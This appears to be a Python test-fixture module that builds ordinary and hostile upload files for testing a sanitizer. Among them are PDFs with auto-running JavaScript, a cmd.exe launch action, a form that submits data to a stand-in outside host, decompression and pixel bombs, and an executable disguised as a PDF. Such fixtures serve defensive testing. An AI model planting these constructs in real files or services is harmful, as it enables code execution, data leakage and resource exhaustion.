"""Make the files people and attackers upload. Each function returns bytes and makes them only once."""

from __future__ import annotations

import functools
import io
import struct
import zlib
from typing import Any

import pikepdf
import pillow_heif
from PIL import Image, ImageCms, ImageDraw

GPS_LATITUDE = (52.0, 31.0, 12.25)
GPS_LONGITUDE = (13.0, 24.0, 17.75)
DEVICE_MAKER = "Fernglas Mobil"
DEVICE_MODEL = "Linse 15 Pro"
SCRIPT = "app.alert('Skript laeuft')"
ATTACHMENT_TEXT = b"Anhang: geheime Tabelle"
AUTHOR = "Autorin Unbekannt"
FORM_VALUE = "148,60"

MARK_COLOUR = (200, 30, 30)
"""Fills the upper left quarter of every photograph, so that a test sees which side is up."""


def photograph(width: int = 1200, height: int = 1600) -> Image.Image:
    """Return a picture of a receipt with a red mark in its upper left quarter."""
    picture = Image.new("RGB", (width, height), (244, 241, 234))
    draw = ImageDraw.Draw(picture)
    draw.rectangle((0, 0, width // 2, height // 2), fill=MARK_COLOUR)
    for row in range(height // 2, height, 40):
        draw.text((width // 8, row), f"Untersuchung {row}  148,60 EUR", fill=(20, 20, 20))
    return picture


def phone_exif(orientation: int = 1) -> Image.Exif:
    """Return the metadata a phone writes: position, device, time, orientation."""
    exif = Image.Exif()
    exif[0x010F] = DEVICE_MAKER
    exif[0x0110] = DEVICE_MODEL
    exif[0x0112] = orientation
    exif[0x0132] = "2026:03:01 10:11:12"
    exif[0x8825] = {1: "N", 2: GPS_LATITUDE, 3: "E", 4: GPS_LONGITUDE, 29: "2026:03:01"}
    return exif


@functools.cache
def phone_jpeg(orientation: int = 6) -> bytes:
    """Return a phone's photograph with its position; its pixels lie on their side when orientation is 6."""
    turned = {3: Image.Transpose.ROTATE_180, 6: Image.Transpose.ROTATE_90, 8: Image.Transpose.ROTATE_270}
    stored = photograph().transpose(turned[orientation]) if orientation in turned else photograph()
    return _saved(stored, "JPEG", quality=90, exif=phone_exif(orientation), comment=b"Aufnahme zu Hause")


@functools.cache
def phone_heic() -> bytes:
    """Return the same photograph as an iPhone stores it."""
    pillow_heif.register_heif_opener()
    return _saved(photograph(), "HEIF", quality=60, exif=phone_exif())


@functools.cache
def screenshot_png() -> bytes:
    """Return a PNG with text chunks, EXIF and a transparent corner."""
    from PIL.PngImagePlugin import PngInfo

    text = PngInfo()
    text.add_text("Author", AUTHOR)
    picture = photograph(800, 600).convert("RGBA")
    picture.putpixel((799, 599), (0, 0, 0, 0))
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return _saved(picture, "PNG", pnginfo=text, exif=phone_exif(), icc_profile=profile)


@functools.cache
def three_page_tiff() -> bytes:
    """Return a scan of three pages: black and white, grey, colour."""
    pages = [photograph(827, 1169).convert(mode) for mode in ("1", "L", "RGB")]
    return _saved(
        pages[0], "TIFF", save_all=True, append_images=pages[1:], dpi=(100, 100), compression="tiff_lzw"
    )


@functools.cache
def pdf(pages: int = 12) -> bytes:
    """Return a plain PDF of A4 pages, each saying its number."""
    with _document(pages) as document:
        document.docinfo["/Author"] = AUTHOR
        return _written(document)


@functools.cache
def pdf_with_javascript() -> bytes:
    """Return a PDF that runs scripts when opened, printed, and when its page is shown."""
    with _document(1) as document:
        script = _action("JavaScript", JS=pikepdf.String(SCRIPT))
        document.Root.OpenAction = script
        document.Root.AA = pikepdf.Dictionary(WP=script)
        document.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("start"), script]))
        )
        document.pages[0].AA = pikepdf.Dictionary(O=script)
        return _written(document)


@functools.cache
def pdf_with_embedded_file() -> bytes:
    """Return a PDF with an attached file, known to the document and to an annotation."""
    with _document(1) as document:
        document.attachments["tabelle.bin"] = ATTACHMENT_TEXT
        return _written(document, compress_streams=False)


@functools.cache
def pdf_with_launch_action() -> bytes:
    """Return a PDF whose page starts a program when clicked."""
    with _document(1) as document:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 500, 800]),
            A=_action("Launch", F=pikepdf.String("cmd.exe")),
        )
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])
        return _written(document)


@functools.cache
def pdf_with_form() -> bytes:
    """Return a PDF form with one filled field and a button that sends it away."""
    with _document(1) as document:
        font = document.pages[0].Resources.Font.F
        field = document.make_indirect(_text_field(document, font))
        button = document.make_indirect(_submit_button())
        document.pages[0].Annots = pikepdf.Array([field, button])
        document.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array([field, button]), DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
        )
        return _written(document)


@functools.cache
def pdf_with_phone_photograph() -> bytes:
    """Return a PDF as scanner apps make it: the phone's JPEG inside, its position included."""
    with _document(1) as document:
        picture = document.make_stream(phone_jpeg(1))
        picture.Type, picture.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        picture.Width, picture.Height, picture.BitsPerComponent = 1200, 1600, 8
        picture.ColorSpace, picture.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
        document.pages[0].Resources.XObject = pikepdf.Dictionary(P=picture)
        document.pages[0].Contents = document.make_stream(b"400 0 0 600 90 90 cm /P Do")
        return _written(document)


@functools.cache
def encrypted_pdf() -> bytes:
    """Return a PDF that opens only with a password."""
    with _document(1) as document:
        return _written(document, encryption=pikepdf.Encryption(user="geheim", owner="geheimer"))


@functools.cache
def locked_pdf() -> bytes:
    """Return a PDF that opens freely but is protected against changes."""
    with _document(1) as document:
        return _written(document, encryption=pikepdf.Encryption(user="", owner="geheimer"))


@functools.cache
def swelling_pdf() -> bytes:
    """Return a small PDF whose one stream unpacks to 576 MB."""
    packer = zlib.compressobj(9)
    zeros = b"\x00" * (16 * 1024 * 1024)
    packed = b"".join(packer.compress(zeros) for _ in range(36)) + packer.flush()
    with _document(1) as document:
        stream = document.make_stream(packed)
        stream.Filter = pikepdf.Name.FlateDecode
        document.pages[0].Contents = stream
        return _written(document, compress_streams=False)


@functools.cache
def portfolio_pdf() -> bytes:
    """Return a PDF portfolio: a cover sheet whose content is the attached files."""
    with _document(1) as document:
        document.attachments["rechnung.bin"] = ATTACHMENT_TEXT
        document.Root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)
        return _written(document)


@functools.cache
def dynamic_form_pdf() -> bytes:
    """Return an XFA form whose only page says "Please wait"."""
    with _document(1) as document:
        document.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp:xdp/>")
        )
        document.Root.NeedsRendering = True
        return _written(document)


@functools.cache
def pdf_with_huge_picture() -> bytes:
    """Return a PDF with a picture that claims 400 megapixels."""
    with _document(1) as document:
        picture = document.make_stream(b"\x00")
        picture.Type, picture.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        picture.Width, picture.Height, picture.BitsPerComponent = 20_000, 20_000, 1
        picture.ColorSpace = pikepdf.Name.DeviceGray
        document.pages[0].Resources.XObject = pikepdf.Dictionary(P=picture)
        return _written(document)


@functools.cache
def pdf_with_document_metadata() -> bytes:
    """Return a PDF with author, XMP and an editor's private data."""
    with _document(1) as document:
        with document.open_metadata() as metadata:
            metadata["dc:creator"] = [AUTHOR]
        document.docinfo["/Author"] = AUTHOR
        document.Root.Pages.Editor = pikepdf.String(AUTHOR)
        document.pages[0].PieceInfo = pikepdf.Dictionary(Editor=pikepdf.String(AUTHOR))
        return _written(document)


@functools.cache
def office_file() -> bytes:
    """Return the beginning of a Word document, which is a ZIP archive."""
    return b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + b"\x00" * 200


@functools.cache
def renamed_executable() -> bytes:
    """Return a Windows program, meant to be uploaded as "rechnung.pdf"."""
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 504 + b"PE\x00\x00" + b"%PDF-1.7" + b"\x90" * 2048


@functools.cache
def long_pdf() -> bytes:
    """Return a PDF page of 20 centimetres by five metres."""
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(567, 14_000))
        return _written(document)


@functools.cache
def slow_png() -> bytes:
    """Return a PNG of 99 megapixels in full colour: allowed, but seconds of work and 400 MB of memory."""
    return blank_png(11_000, 9_000, colour_type=2, bits=8)


@functools.cache
def huge_png() -> bytes:
    """Return a valid PNG of 200 megapixels that weighs a few kilobytes."""
    return blank_png(20_000, 10_000)


def blank_png(width: int, height: int, *, colour_type: int = 0, bits: int = 1) -> bytes:
    """Return a white PNG of any size without drawing it; types as the PNG norm numbers them."""
    packer = zlib.compressobj(1)
    samples_per_pixel = 3 if colour_type == 2 else 1
    row = b"\x00" + b"\xff" * ((width * bits * samples_per_pixel + 7) // 8)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, bits, colour_type, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, content) for kind, content in chunks)


def empty() -> bytes:
    """Return nothing."""
    return b""


@functools.cache
def too_large() -> bytes:
    """Return 26 MB that begin like a JPEG."""
    return b"\xff\xd8\xff\xe0" + b"\x00" * (26 * 1024 * 1024)


@functools.cache
def truncated_jpeg() -> bytes:
    """Return a photograph whose transfer broke off."""
    return phone_jpeg()[: len(phone_jpeg()) // 3]


@functools.cache
def truncated_pdf() -> bytes:
    """Return the beginning of a PDF, before any page."""
    return pdf()[:60]


def _document(pages: int) -> pikepdf.Pdf:
    document = pikepdf.new()
    font = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for number in range(1, pages + 1):
        document.add_blank_page(page_size=(595, 842))
        page = document.pages[-1]
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
        text = f"BT /F 24 Tf 60 740 Td (Arztrechnung, Seite {number}) Tj ET"
        page.Contents = document.make_stream(text.encode())
    return document


def _written(document: pikepdf.Pdf, **options: Any) -> bytes:
    target = io.BytesIO()
    document.save(target, **options)
    return target.getvalue()


def _action(kind: str, **entries: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **entries)


def _text_field(document: pikepdf.Pdf, font: pikepdf.Object) -> pikepdf.Dictionary:
    look = document.make_stream(f"/Tx BMC BT /F 14 Tf 4 8 Td ({FORM_VALUE}) Tj ET EMC".encode())
    look.Type, look.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    look.BBox = pikepdf.Array([0, 0, 200, 30])
    look.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("betrag"),
        V=pikepdf.String(FORM_VALUE), Rect=pikepdf.Array([60, 600, 260, 630]), F=4,
        AP=pikepdf.Dictionary(N=look),
    )  # fmt: skip


def _submit_button() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, Ff=65536,
        T=pikepdf.String("senden"), Rect=pikepdf.Array([60, 500, 160, 530]),
        A=_action("SubmitForm", F=pikepdf.String("https://fremd.example/")),
    )  # fmt: skip


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    target = io.BytesIO()
    picture.save(target, kind, **options)
    return target.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
